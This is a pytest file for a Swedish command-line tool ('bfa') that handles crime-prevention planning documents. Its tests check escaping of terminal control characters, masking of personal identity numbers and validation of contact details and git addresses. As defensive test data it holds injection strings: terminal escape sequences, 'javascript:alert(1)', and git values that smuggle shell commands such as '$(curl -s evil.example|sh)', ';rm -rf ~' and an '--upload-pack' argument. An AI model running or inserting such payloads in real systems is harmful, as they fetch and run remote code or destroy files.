"""What bfa's own error lines show: no raw terminal escapes, no personnummer, Swedish.

Findings were masked and escaped in round one; the ``bfa: fel:`` lines that quote a
command-line argument or a file's content were not (attack report A6, A20, A30, A31).
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from .conftest import EXAMPLES

PNR = "800101-1231"  # a valid check digit: bfa detects it


def _bfa(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "brottsforeb", *args],
        capture_output=True,
        text=True,
        encoding="utf-8",
        cwd=cwd,
        check=False,
    )


@pytest.mark.parametrize(
    "args",
    [
        ("log", "styr\x1b[31mgrupp"),
        ("log", "styr\x1b]8;;http://evil\x1b\\grupp"),
        ("render", "rikt\x07linje"),
        ("check", "--today", "2026-13-\x1b[2J01"),
    ],
)
def test_error_lines_show_control_characters_visibly(args: tuple[str, ...]) -> None:
    result = _bfa(*args, str(EXAMPLES / "torsby"))
    assert result.returncode == 2, result.stderr
    assert "bfa: fel:" in result.stderr
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert "\\x1b" in result.stderr or "\\x07" in result.stderr


@pytest.mark.parametrize(
    "args",
    [
        ("log", PNR),
        ("render", "atgardsplan", "--id", PNR),
        ("check", "--today", PNR),
        ("calendar", "--meeting", PNR),
        ("minutes", "--since", PNR),
    ],
)
def test_error_lines_never_echo_a_personnummer(args: tuple[str, ...]) -> None:
    result = _bfa(*args, str(EXAMPLES / "torsby"))
    assert result.returncode in (1, 2), result.stderr
    assert PNR not in result.stderr + result.stdout
    assert "80****-****" in result.stderr, result.stderr


def test_a_line_break_in_an_argument_cannot_start_a_line_of_its_own() -> None:
    result = _bfa("log", "x\nbfa: klart: allt är rätt", str(EXAMPLES / "torsby"))
    assert result.returncode == 2
    assert not any(line.startswith("bfa: klart") for line in result.stderr.splitlines())


def test_closed_stdout_is_not_an_internal_error() -> None:
    # `bfa validate >&-`: the stream is None inside Python.
    result = subprocess.run(
        [sys.executable, "-m", "brottsforeb", "validate", str(EXAMPLES / "torsby")],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        pass_fds=(),
        preexec_fn=_close_stdout if sys.platform != "win32" else None,
        check=False,
    )
    assert "internt fel" not in result.stderr, result.stderr
    assert result.returncode == 0


def _close_stdout() -> None:
    import os

    os.close(1)


def _contact_repo(make_repo, key: str, value: str):  # type: ignore[no-untyped-def]
    """A repository whose one function holder has ``key: value`` as contact detail."""
    return make_repo(
        {
            "funktioner/kontakt.yaml": f"""
            titel: Kontaktperson
            innehavare:
              namn: Eva Exempel
              {key}: "{value}"
            """
        }
    )


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("e_post", "eva@norsjo.se;RSVP=TRUE:mailto:evil@example.com"),
        ("e_post", "inte en adress"),
        ("e_post", "javascript:alert(1)"),
        ("telefon", "ring mig"),
        ("telefon", "12"),
    ],
)
def test_contact_details_must_look_like_what_they_are(cli, make_repo, key: str, value: str) -> None:
    # A29: e_post went into mailto: links and the calendar's ATTENDEE unchecked.
    root = _contact_repo(make_repo, key, value)
    result = cli("validate", root, "--format", "github")
    assert result.exit_code == 1, result.output
    assert "file=funktioner/kontakt.yaml,line=4" in result.output, result.output
    assert "e-postadress" in result.output or "telefonnummer" in result.output


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("e_post", "anna.lindqvist@torsby.se"),
        ("telefon", "0560-160 00"),
        ("telefon", "+46 (0)560 160 00"),
        ("telefon", "0560–16000"),
    ],
)
def test_ordinary_contact_details_pass(cli, make_repo, key: str, value: str) -> None:
    root = _contact_repo(make_repo, key, value)
    result = cli("validate", root)
    assert "kontakt.yaml" not in result.output, result.output


@pytest.mark.parametrize("columns", ["abc", "-5", "1", "0", ""])
def test_any_columns_value_keeps_the_findings_text(example, columns: str) -> None:
    # A47: COLUMNS=abc was an internal error, -5 printed nothing, 1 a table of empty cells.
    import os

    root = example("torsby")
    result = subprocess.run(
        [sys.executable, "-m", "brottsforeb", "check", str(root), "--today", "2030-01-01"],
        capture_output=True,
        text=True,
        encoding="utf-8",
        env={**os.environ, "COLUMNS": columns},
        check=False,
    )
    assert result.returncode == 1, result.stderr
    assert "internt fel" not in result.stderr
    assert "fel" in result.stdout.splitlines()[-1]
    assert "Riktlinje" in result.stdout, result.stdout[:400]


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("git", "https://example.com/x.git $(curl -s evil.example|sh) #"),
        ("git", "https://example.com/x.git;rm -rf ~"),
        ("git", "`id`"),
        ("revision", "--upload-pack=touch /tmp/x"),
        ("revision", "v1 v2"),
    ],
)
def test_a_collaboration_address_cannot_carry_a_shell_command(
    cli, make_repo, key: str, value: str
) -> None:
    # A48: the git address went unquoted into a "git clone …" hint meant to be pasted.
    fields = {"git": "https://example.com/samverkan.git", "revision": "v1", key: value}
    root = make_repo()
    with (root / "bfa.yaml").open("a", encoding="utf-8") as f:
        f.write(
            "ingår_i_samverkan:\n"
            "  - id: sl\n"
            f"    git: '{fields['git']}'\n"
            f"    revision: '{fields['revision']}'\n"
            "    delar: [organ/samverkansgrupp]\n"
        )
    result = cli("validate", root, "--format", "json")
    assert result.exit_code == 1, result.output
    assert f"ingår_i_samverkan[1].{key}" in result.output
    assert "git clone" not in result.output


def test_the_clone_hint_quotes_what_it_pastes(cli, make_repo, tmp_path) -> None:
    root = make_repo()
    with (root / "bfa.yaml").open("a", encoding="utf-8") as f:
        f.write(
            "ingår_i_samverkan:\n"
            "  - id: sl\n"
            "    git: 'https://example.com/samverkan.git'\n"
            "    revision: v1\n"
            "    klon: '../klon med mellanslag'\n"
            "    delar: [organ/samverkansgrupp]\n"
        )
    out = cli("validate", root, "--format", "json").output
    assert "git clone https://example.com/samverkan.git '" in out, out
